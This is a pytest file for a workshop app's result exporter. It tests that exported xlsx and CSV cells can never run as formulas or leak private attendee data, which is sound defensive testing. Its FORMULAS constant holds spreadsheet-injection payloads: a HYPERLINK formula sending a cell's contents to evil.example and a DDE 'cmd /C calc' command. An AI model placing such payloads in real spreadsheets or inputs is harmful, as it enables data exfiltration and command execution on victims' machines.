"""Every cell an export writes, read back: none can run as a formula, and none holds what the
README's table says an export never holds (a name, a nickname, a resume code, a do-over, an
impact pledge, a withdrawn wall entry, a time finer than the minute). Issue 16, item 7."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.support.paths import ROOT
from workshop.codes import display, pseudonym
from workshop.content.keynote import KeynoteContent
from workshop.content.live import load_live_content
from workshop.keynote.answers import Pick
from workshop.reports.results import export_results
from workshop.services import live_session as live
from workshop.services.demo import fill_room
from workshop.spreadsheet import FORMULA_STARTS
from workshop.store import Store

T0 = datetime(2025, 3, 14, 9, 0, tzinfo=UTC)
#: What people typed that a spreadsheet would run, as issue 16 found it in the CSV files.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)")
PRIVATE = "PRIVATE-do-over-words"
PLEDGE = "PRIVATE-pledge-words"
NICKNAME = "Nick Ramirez-Secret"
WITHDRAWN = "Withdrawn-words"
#: A time finer than the minute (HH:MM:SS), as the store keeps it.
TOO_FINE = re.compile(r"\d\d:\d\d:\d\d")


@pytest.fixture
def room(store: Store, content: KeynoteContent) -> tuple[str, list[str]]:
    """A demo room, and a hostile attendee whose every answer is a formula or a secret."""
    live_content = load_live_content(ROOT / "data" / "en")
    code = live.start_session(store, content, live_content, now=T0).session.code
    fill_room(store, content, live_content, 40, code)
    who = store.create_attendee(NICKNAME, code)
    store.save_text(who.id, "do_over", f"{content.do_over.contexts[0].id}.answer", PRIVATE)
    store.save_text(who.id, "impact", "better_place", PLEDGE)
    store.save_text(who.id, "menu", "mantra", FORMULAS[0])
    store.save_picks(who.id, "menu", "ingredient", [Pick(FORMULAS[1], "-1"), Pick(FORMULAS[2], "")])
    for body in FORMULAS:
        store.share_on_wall(who.id, "mantra", body)
    gone = store.share_on_wall(who.id, "mantra", WITHDRAWN)
    store.withdraw_from_wall(gone, who.id)
    attendees = store.export_rows(code).attendees
    secrets = [NICKNAME, PRIVATE, PLEDGE, WITHDRAWN, *attendees]
    for attendee_id in attendees:
        resume = store.attendee(attendee_id).resume_code
        secrets += [resume, display(resume)]
        nickname = store.attendee(attendee_id).nickname
        if nickname:
            secrets.append(nickname)
    return code, secrets


def xlsx_cells(path: Path) -> list[tuple[str, object, str]]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [
        (sheet.title, cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def csv_cells(files: dict[str, str]) -> list[tuple[str, str]]:
    return [
        (name, cell)
        for name, data in files.items()
        for row in csv.reader(io.StringIO(data, newline=""))
        for cell in row
    ]


def test_no_exported_cell_runs_or_holds_what_an_export_never_holds(
    store: Store, content: KeynoteContent, room: tuple[str, list[str]], tmp_path: Path
) -> None:
    code, secrets = room
    xlsx, folder, archive = tmp_path / "r.xlsx", tmp_path / "results", tmp_path / "r.zip"
    for out in (xlsx, folder, archive):
        export_results(store, content, code, out)

    book = xlsx_cells(xlsx)
    assert not [c for c in book if c[2] == "f"], "a workbook cell is a formula"
    assert {v for _s, v, _t in book} >= set(FORMULAS), "what was shared is exported, as text"
    with zipfile.ZipFile(archive) as zipped:
        zipped_files = {n: zipped.read(n).decode("utf-8") for n in zipped.namelist()}
    folder_files = {p.name: p.read_bytes().decode("utf-8") for p in folder.iterdir()}
    assert zipped_files == folder_files
    cells = csv_cells(folder_files)
    runs = [(name, cell) for name, cell in cells if cell.startswith(FORMULA_STARTS)]
    assert runs == [], "a CSV cell a spreadsheet would run"
    assert {f"'{f}" for f in FORMULAS} <= {cell for _n, cell in cells}

    every = [str(v) for _s, v, _t in book if v is not None] + [cell for _n, cell in cells]
    for secret in secrets:
        assert not any(secret in cell for cell in every), f"an export holds {secret!r}"
    assert not any(TOO_FINE.search(cell) for cell in every), "a time finer than the minute"


def test_rows_are_in_pseudonym_order_not_join_order(
    store: Store, content: KeynoteContent, room: tuple[str, list[str]], tmp_path: Path
) -> None:
    code, _secrets = room
    out = tmp_path / "results"
    export_results(store, content, code, out)
    joined = [pseudonym(a) for a in store.export_rows(code).attendees]
    rows = list(csv.DictReader((out / "attendees.csv").open(encoding="utf-8")))
    shown = [r["attendee"] for r in rows]
    assert shown == sorted(joined)
    assert shown != joined, "the demo's join order happened to be sorted; pick another seed"
    finders = [r["attendee"] for r in csv.DictReader((out / "finders.csv").open(encoding="utf-8"))]
    assert finders == sorted(finders)


def test_blank_wall_rows_of_an_older_database_never_reach_the_export(
    store: Store, content: KeynoteContent, room: tuple[str, list[str]], tmp_path: Path
) -> None:
    """Issue 16: 120 clicks on hidden Share buttons had made 101 empty rows; a database from
    before keeps them, and the export leaves them out."""
    code, _secrets = room
    who = store.export_rows(code).attendees[0]
    with store.transaction() as conn:
        from sqlalchemy import text

        conn.execute(
            text(
                "INSERT INTO wall (session_code, attendee_id, kind, body, shared_at) "
                "VALUES (:s, :a, '', :b, '2025-03-14T09:00:00.000+00:00')"
            ),
            [{"s": code, "a": who, "b": body} for body in ("", "  ", "\u200b")],
        )
    out = tmp_path / "results"
    export_results(store, content, code, out)
    rows = list(csv.DictReader((out / "wall.csv").open(encoding="utf-8")))
    assert rows and all(r["text"].strip() for r in rows)
